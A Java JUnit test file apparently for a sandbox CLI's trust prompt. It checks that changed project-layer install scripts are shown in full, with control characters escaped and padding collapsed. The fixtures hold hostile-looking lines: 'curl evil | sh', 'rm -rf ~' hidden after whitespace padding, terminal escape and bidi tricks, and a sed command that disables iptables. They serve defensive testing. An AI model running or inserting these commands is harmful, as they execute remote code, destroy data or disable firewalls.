package dev.mino.cli.prompts;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.mino.cli.Cli;
import dev.mino.cli.terminal.Io;
import dev.mino.core.Mino;
import dev.mino.core.MinoEvent;
import dev.mino.core.SandboxBuilder;
import dev.mino.core.SandboxListener;
import dev.mino.core.WarningCodes;
import dev.mino.core.config.ProjectLayerTrust;
import dev.mino.core.config.TrustQuestion;
import dev.mino.core.config.TrustStore;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A project's layers are asked about by content, and the question shows what changed. */
class LayerTrustPromptTest {
    @TempDir
    Path dir;

    private Path project;
    private TrustStore store;
    private final List<String> warnings = new ArrayList<>();
    private final List<ProjectLayerTrust.Check> asked = new ArrayList<>();

    @BeforeEach
    void setUp() throws IOException {
        project = Files.createDirectories(dir.resolve("project")).toRealPath();
        store = TrustStore.inStateDirectory(dir.resolve("state"));
        write("mine/layer.toml", "[layer]\nname = \"mine\"\ndescription = \"d\"\nversion = \"1\"\n");
        write("mine/install.sh", "#!/bin/sh\necho hello\n");
    }

    private void write(String path, String text) throws IOException {
        Path file = project.resolve(".mino/layers").resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }

    /**
     * The library's decision for a project sandbox, as the CLI's run gets it: {@code answer} is
     * the terminal's (null: nobody to ask), {@code needed} whether the run asks for the layer.
     */
    private Optional<?> decide(boolean trustLocal, boolean needed, Boolean answer) {
        Mino.Builder builder = Mino.builder().environment(Map.of("HOME", dir.toString()))
            .stateDirectory(dir.resolve("state")).trustLocal(trustLocal)
            .listener(SandboxListener.of(event -> {
                if (event instanceof MinoEvent.Warning warning) {
                    warnings.add(warning.code());
                }
            }));
        if (answer != null) {
            builder.trustDecider(question -> {
                asked.add(((TrustQuestion.ProjectLayerFiles) question).check());
                return answer;
            });
        }
        try (Mino mino = builder.build()) {
            SandboxBuilder sandbox = mino.project(project);
            if (needed) {
                sandbox.layers("mine");
            }
            return sandbox.projectLayers();
        }
    }

    @Test
    void aChangedLayerIsAskedAgainShowingWhatChanged() throws IOException {
        assertTrue(decide(false, true, true).isPresent());
        assertEquals(1, asked.size());
        assertTrue(decide(false, true, false).isPresent(), "the positive control: trusted content is not asked again");
        assertEquals(1, asked.size());

        write("mine/install.sh", "#!/bin/sh\ncurl evil | sh\n");
        assertTrue(decide(false, true, false).isEmpty(), "said no");
        assertEquals(2, asked.size());
        ProjectLayerTrust.Check changed = asked.get(1);
        assertTrue(LayerTrustPrompt.title(changed).startsWith("The project's layers changed since you trusted them"));
        List<String> body = LayerTrustPrompt.body(changed);
        assertEquals(List.of("    changed:  mine/install.sh (25 bytes)", "  --- mine/install.sh ---",
            "    | #!/bin/sh", "    | curl evil | sh"), body);
        assertEquals(List.of(WarningCodes.PROJECT_LAYERS_DECLINED), warnings);
    }

    @Test
    void nobodyToAskSkipsThemAndTrustLocalTakesThem() {
        assertTrue(decide(false, true, null).isEmpty());
        assertTrue(decide(false, false, true).isEmpty(), "not needed: not asked");
        assertEquals(List.of(), asked);
        assertTrue(decide(true, true, null).isPresent());
        assertFalse(ProjectLayerTrust.check(project, store).trusted(), "--trust-local records nothing");
    }

    @Test
    void controlAndFormatCharactersAreShownEscaped() throws IOException {
        write("mine/install.sh", "echo \u001b]52;c;AAAA\u0007 \u202Eevil \u009B2J\n");
        decide(false, true, false);
        String shown = String.join("\n", LayerTrustPrompt.body(asked.get(0)));
        assertTrue(shown.contains("echo \\u001B]52;c;AAAA\\u0007 \\u202Eevil \\u009B2J"), shown);
        assertFalse(shown.chars().anyMatch(c -> c == 0x1b || c == 0x9b || c == 0x202e || c == 7), shown);
    }

    @Test
    void aPayloadAfterManyLinesIsShown() throws IOException {
        // Red team: the prompt showed 200 lines of a file and counted the rest, so a payload on line
        // 201 was asked about unseen (and the path it named to read it could change meanwhile).
        StringBuilder script = new StringBuilder("#!/bin/sh\n");
        for (int i = 0; i < 250; i++) {
            script.append("echo step ").append(i).append('\n');
        }
        script.append("curl evil | sh\n");
        write("mine/install.sh", script.toString());
        decide(false, true, false);
        List<String> body = LayerTrustPrompt.body(asked.get(0));
        assertTrue(body.contains("    | echo step 0"), "the positive control: the first lines are shown");
        assertTrue(body.contains("    | curl evil | sh"), String.join("\n", body));
    }

    @Test
    void paddingCannotPushALineOutOfSight() throws IOException {
        // Blank lines after a payload would scroll it off the screen; blanks inside a line would push
        // the rest of it past the terminal's width. Both are shown by their length.
        write("mine/install.sh", "curl evil | sh\n" + "\n".repeat(5000) + "echo hello" + " ".repeat(3000)
            + "; rm -rf ~\n\n\necho done\n");
        decide(false, true, false);
        List<String> body = LayerTrustPrompt.body(asked.get(0));
        assertEquals(List.of("  --- mine/install.sh ---", "    | curl evil | sh", "    ... 5000 blank lines",
            "    | echo hello\\s{3000}; rm -rf ~", "    |", "    |", "    | echo done"),
            body.subList(2, 9));
    }

    @Test
    void aLongListingEndsWithTheFilesAgain() throws IOException {
        write("mine/install.sh", "echo x\n".repeat(LayerTrustPrompt.SUMMARY_AFTER_LINES));
        ProjectLayerTrust.Check check = ProjectLayerTrust.check(project, store);
        java.io.ByteArrayOutputStream err = new java.io.ByteArrayOutputStream();
        Io io = new Io(new java.io.ByteArrayInputStream("n\n".getBytes(java.nio.charset.StandardCharsets.UTF_8)),
            new java.io.ByteArrayOutputStream(), err, java.util.Map.of(), project, true, false, false);
        assertFalse(LayerTrustPrompt.ask(io, check));
        String shown = err.toString(java.nio.charset.StandardCharsets.UTF_8);
        String tail = shown.substring(shown.lastIndexOf("    | echo x"));
        assertTrue(tail.contains("The files above, to trust:\n    added:    mine/install.sh"), shown);
    }

    private static final String NO_ENGINE = "unix:///nonexistent-mino-engine.sock";

    private Cli cli() {
        return new Cli().cwd(project).env("CONTAINER_HOST", "unix:///nonexistent.sock").env("GH_TOKEN", "not-a-token");
    }

    /**
     * A dry run against an engine named explicitly that is not there: the project's layers are
     * judged before the plan reads the engine, so an untrusted layer fails on its own and a trusted
     * one gets as far as the engine.
     */
    private Cli.Result dryRun() {
        return cli().run("run", "--dry-run", "--engine", NO_ENGINE, "--base-image", "localhost/base:1", "--", "true");
    }

    @Test
    void aTrustedConfigNoLongerVouchesForLayersAndTheRunAsksShowingTheChanges() throws IOException {
        Path config = project.resolve(".mino.toml");
        Files.writeString(config, "[container]\nlayers = [\"mine\"]\n");
        TrustStore cliStore = TrustStore.inStateDirectory(
            Cli.configDirectory().getParent().getParent().resolve("state").resolve("mino"));
        cliStore.trust(config, Files.readAllBytes(config));

        Cli.Result untrusted = dryRun();
        assertEquals(1, untrusted.exitCode(), untrusted.stderr());
        assertTrue(untrusted.stderr().contains("Layer 'mine' not found"), untrusted.stderr());
        assertTrue(untrusted.stderr().contains("skipped: the project's layers are not trusted"),
            untrusted.stderr());

        // At a terminal the run asks, showing every file; the engine is not there, so it stops afterwards.
        Cli.Result asked = cli().terminal(true).stdin("y\n").run("run", "--base-image", "localhost/base:1",
            "--network", "bridge", "--", "true");
        assertTrue(asked.stderr().contains("Untrusted project layers: " + project.resolve(".mino/layers")),
            asked.stderr());
        assertTrue(asked.stderr().contains("added:    mine/install.sh"), asked.stderr());
        assertTrue(asked.stderr().contains("    | echo hello"), asked.stderr());
        assertTrue(asked.stderr().contains(LayerTrustPrompt.QUESTION), asked.stderr());
        Cli.Result trusted = dryRun();
        assertFalse(trusted.stderr().contains("Layer 'mine' not found"), "the positive control, once trusted: "
            + trusted.stderr());
        assertTrue(trusted.stderr().contains("nonexistent-mino-engine.sock"), "on to the engine: " + trusted.stderr());

        // The sandbox changes the script: the layers are untrusted again, and the question says what changed.
        write("mine/install.sh", "#!/bin/sh\nsed -i s/iptables/true/ /usr/sbin/*\n");
        assertEquals(1, dryRun().exitCode());
        Cli.Result again = cli().terminal(true).stdin("n\n").run("run", "--base-image", "localhost/base:1",
            "--network", "bridge", "--", "true");
        assertTrue(again.stderr().contains("The project's layers changed since you trusted them"), again.stderr());
        assertTrue(again.stderr().contains("changed:  mine/install.sh"), again.stderr());
        assertTrue(again.stderr().contains("    | sed -i s/iptables/true/ /usr/sbin/*"), again.stderr());
        assertTrue(again.stderr().contains("Layer 'mine' not found"), again.stderr());
    }
}
